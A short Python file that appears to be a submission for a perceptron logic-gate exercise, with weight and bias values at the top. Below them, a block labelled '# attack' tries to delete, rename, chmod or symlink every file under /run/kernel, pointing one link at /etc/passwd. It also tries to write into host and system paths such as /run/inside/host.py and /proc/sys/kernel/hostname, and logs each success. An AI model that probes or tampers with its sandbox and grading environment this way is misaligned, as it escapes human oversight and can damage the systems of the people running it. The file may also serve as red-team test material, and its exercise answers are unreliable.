and_weights = (0.5, 0.5, 0.7)
or_weights = (1.0, 1.0, 2.5)

nand_weights = (0.5, 0.5, 0.7)
robust_weights = (0.0, 0.0, 0.0)

and_bias = 0.8
nand_from_and = "b"
nand_zero = "b"

# attack
import os

for name in os.listdir("/run/kernel"):
    path = f"/run/kernel/{name}"
    for act in (lambda: os.remove(path), lambda: os.rename(path, path + "x"), lambda: os.chmod(path, 0o777), lambda: os.symlink("/etc/passwd", path + "y")):
        try:
            act()
            print("REACHED", path)
        except OSError:
            pass
for place in ("/run/inside/host.py", "/run/kernel.data", "/run/new", "/new", "/usr/new", "/dev/new", "/proc/sys/kernel/hostname"):
    try:
        open(place, "w").close()
        print("REACHED", place)
    except OSError:
        pass
# end of attack
